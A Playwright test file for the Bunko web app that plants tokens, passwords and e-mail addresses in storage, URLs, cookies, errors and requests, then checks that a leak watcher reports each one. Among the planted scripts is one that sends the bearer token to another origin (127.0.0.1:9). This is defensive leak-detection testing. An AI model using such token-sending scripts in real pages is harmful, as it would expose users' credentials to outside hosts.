import { demoAccount } from '@bunko/mock-server/named'
import { expect, type Page } from '@playwright/test'
import { watchLeaks } from './leaks.ts'
import { logIn } from './people.ts'
import { served, test } from './test.ts'

/** Without the policy, which would stop some of it on its way: the watch is to see what gets out where nothing does. */
const bare = served.extend({ underPolicy: false })

const signedIn = async (page: Page) => {
  await page.goto('/login')
  await logIn(page, 1)
  await expect(page).toHaveURL('/')
  // By then the page has its title.
  await expect(page.getByRole('region', { name: 'Featured titles' }).getByRole('heading').first()).toBeVisible()
}
const token = `JSON.parse(localStorage.getItem('auth-storage')).tokens.accessToken`
const refreshToken = `JSON.parse(localStorage.getItem('auth-storage')).tokens.refreshToken`
const { email, password } = demoAccount(1)

// The watch itself: what is planted is found, by its kind and its place.
const PLANTED: readonly [what: string, script: string, found: RegExp][] = [
  ['the console', `console.log('sent', ${token})`, /^a token in the console: sent …$/],
  ['an address', `history.pushState(null, '', '/search?q=' + ${token})`, /^a token in an address: /],
  [
    'a request',
    `void fetch('/api/v1/manga/genres?u=' + encodeURIComponent('${email}'))`,
    /^an e-mail address in a request: /,
  ],
  ['a password in a request', `void fetch('/api/v1/manga/genres?p=${password}')`, /^a password in a request: .*p=…$/],
  ['a password within a text', `console.log('could not send ${password}!')`, /^a password in the console: .*send …!$/],
  ['the title', `document.title = '${email}'`, /^an e-mail address in title: …$/],
  ['the local storage', `localStorage.setItem('bunko-x', ${refreshToken})`, /^a token in the local storage: /],
  ['the session storage', `sessionStorage.setItem('x', ${token})`, /^a token in the session storage: /],
  ['history', `history.replaceState({ at: ${token} }, '')`, /^a token in history: /],
  ['an error', `setTimeout(() => { throw new Error('refused ' + ${token}) })`, /^a token in an error: /],
  [
    'an error report',
    `dispatchEvent(new CustomEvent('bunko:error', { detail: { message: ${token} } }))`,
    /^a token in an error report: /,
  ],
  [
    'a frame',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '/seal.svg?t=' + ${token} }))`,
    /^a token in the link of a letter: .*seal\.svg/,
  ],
  ['cookies', `document.cookie = 'x=' + ${token}`, /^a token in cookies: /],
  [
    'another origin',
    `void fetch('http://127.0.0.1:9/', { headers: { authorization: 'Bearer ' + ${token} } }).catch(() => {})`,
    /^a token was sent to http:\/\/127\.0\.0\.1:9$/,
  ],
]
const sent = (path: string, body: object) =>
  `void fetch('/api/v1/auth/${path}', { method: 'POST', body: '${JSON.stringify(body)}' })`
// What is sent is a secret from then on.
const LEARNED: typeof PLANTED = [
  [
    'a new password',
    `${sent('change-password/', { currentPassword: 'the one before', newPassword: 'the one after' })}
    console.log('the one after')`,
    /^a password in the console: …$/,
  ],
  [
    'the password before it',
    `${sent('change-password/', { currentPassword: 'the one before', newPassword: 'the one after' })}
    console.log('the one before')`,
    /^a password in the console: …$/,
  ],
  [
    'a new e-mail address',
    `${sent('request-email-change', { newEmail: 'new@reader.example' })}
    console.log('new@reader.example')`,
    /^an e-mail address in the console: …$/,
  ],
  [
    'the code of a letter',
    `${sent('verify-email/', { token: 'of-a-letter' })}
    history.pushState(null, '', '/verify-email?token=of-a-letter')`,
    /^the code of a letter in an address: /,
  ],
]
for (const [what, script, found] of [...PLANTED, ...LEARNED])
  bare(`a secret that is planted is found: ${what}`, async ({ page, context }) => {
    const watched = await watchLeaks(context)
    await signedIn(page)
    await expect.poll(watched.known).toBeGreaterThanOrEqual(4)
    expect(await watched.leaks()).toEqual([])
    await page.evaluate(script)
    await expect.poll(watched.leaks).toEqual(expect.arrayContaining([expect.stringMatching(found)]))
  })

const BRIEF = new Set(['the title', 'history', 'the session storage', 'an error report'])
for (const [what, script, found] of PLANTED.filter(([name]) => BRIEF.has(name)))
  bare(`a secret is found when its page is gone: ${what}`, async ({ page, context }) => {
    const watched = await watchLeaks(context)
    await signedIn(page)
    await expect.poll(watched.known).toBeGreaterThanOrEqual(4)
    const other = await context.newPage()
    await other.goto('/robots.txt')
    await other.evaluate(script)
    await other.goto('/seal.svg')
    await other.close()
    await expect.poll(watched.leaks).toEqual(expect.arrayContaining([expect.stringMatching(found)]))
  })

test('an error that nobody handled is told by what may leave', async ({ page }) => {
  await signedIn(page)
  await page.evaluate(`setTimeout(() => { throw new TypeError('typed by somebody') })`)
  await page.evaluate(`void Promise.reject('a reason')`)
  const told = () => page.evaluate<{ name: string; screen: string; build: string }[]>('__errorReports')
  await expect.poll(async () => (await told()).length).toBe(2)
  // A rejection is told at the end of its task, which may come before an error that waits for its own.
  const thrown = (await told()).find(({ name }) => name === 'TypeError')
  const rejected = (await told()).find(({ name }) => name !== 'TypeError')
  expect(thrown).toEqual({
    name: 'TypeError',
    api: null,
    screen: '/',
    frames: [],
    build: expect.stringMatching(/^\/assets\/[\w-]+\.js$/),
  })
  expect(rejected).toMatchObject({ name: 'Error', screen: '/' })
})

test('a page that breaks again and again is told of twenty times, and then no more', async ({ page }) => {
  await signedIn(page)
  const told = () => page.evaluate<number>('__errorReports.length')
  await page.evaluate(`for (let n = 0; n < 25; n++) setTimeout(() => { throw new Error('again') })`)
  await expect.poll(told).toBe(20)
  const heard = page.waitForEvent('pageerror', ({ message }) => message.includes('once more'))
  await page.evaluate(`setTimeout(() => { throw new Error('once more') })`)
  await heard
  expect(await told()).toBe(20)
})

test('a wrong password, an answer that echoes what was sent, and a broken one leave nothing behind', async ({
  page,
}) => {
  const secret = 'planted password'
  await page.goto('/login')
  for (const body of [`{"detail":"No ${secret} of planted@reader.example"}`, `<html>${secret}`]) {
    await page.route('**/auth/login/', (route) => route.fulfill({ status: 400, contentType: 'application/json', body }))
    await page.getByRole('textbox', { name: 'E-mail' }).fill('planted@reader.example')
    await page.getByLabel('Password', { exact: false }).first().fill(secret)
    await page.getByRole('button', { name: 'Log in', exact: true }).click()
    await expect(page.getByRole('alert')).toBeVisible()
    await page.unrouteAll()
  }
  await page.goto('/forgot-password')
  await page.getByRole('textbox', { name: 'E-mail' }).fill('planted@reader.example')
  await page.getByRole('button', { name: 'Send the link' }).click()
  await expect(page.getByRole('heading', { name: 'Check your e-mail' })).toBeVisible()
})

test('the diagnostics hold no token and no address of whoever copies them', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto('/login?next=/admin/edit-approvals')
  await logIn(page, 1)
  await page.getByRole('button', { name: 'Debug API' }).click()
  await expect(page.getByText(/^(All|\d+ of) \d+ .*answer/)).toBeVisible()
  await page.getByRole('button', { name: /^Copy/ }).click()
  await expect.poll(() => page.evaluate('navigator.clipboard.readText()')).toContain('Bunko API diagnostics')
  const copied = await page.evaluate<string>('navigator.clipboard.readText()')
  for (const secret of [await page.evaluate<string>(token), await page.evaluate<string>(refreshToken), email])
    expect(copied).not.toContain(secret)
})
